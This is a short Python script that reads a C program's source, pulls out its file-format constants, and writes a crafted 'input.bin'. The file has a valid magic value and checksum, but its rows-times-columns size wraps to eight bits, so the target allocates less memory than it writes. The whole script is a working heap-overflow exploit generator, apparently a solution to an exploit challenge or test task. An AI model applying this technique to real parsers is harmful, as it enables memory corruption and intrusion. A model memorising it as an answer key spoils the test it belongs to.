import re
from pathlib import Path

source = Path("program.c").read_text()
start = int(re.search(r"sum = (\d+)u;", source)[1])
factor, shift = (int(n) for n in re.search(r"\* (\d+)u \+ \(sum >> (\d+)\)", source).groups())
mask, least = int(re.search(r"body\[0\] \^ (\d+)", source)[1]), int(re.search(r"cells < (\d+)", source)[1])
magic, kind = re.search(r'memcmp\(all, "(\w+)"', source)[1], int(re.search(r"case (\d): read_table", source)[1])
# rows * columns is cut to eight bits: what is allocated is less than what is written.
rows, columns = next((r, c) for r in range(2, 256) for c in range(2, 256) if r * c > 300 and least <= r * c % 256 < 128)
cells = rows * columns % 256
body = bytes([kind, rows ^ mask, columns, 65]) + bytes(cells + 8)
total = start
for byte in body:
    total = ((total ^ byte) * factor + (total >> shift)) % 2**32
Path("input.bin").write_bytes(magic.encode() + len(body).to_bytes(2, "big") + total.to_bytes(4, "big") + body)
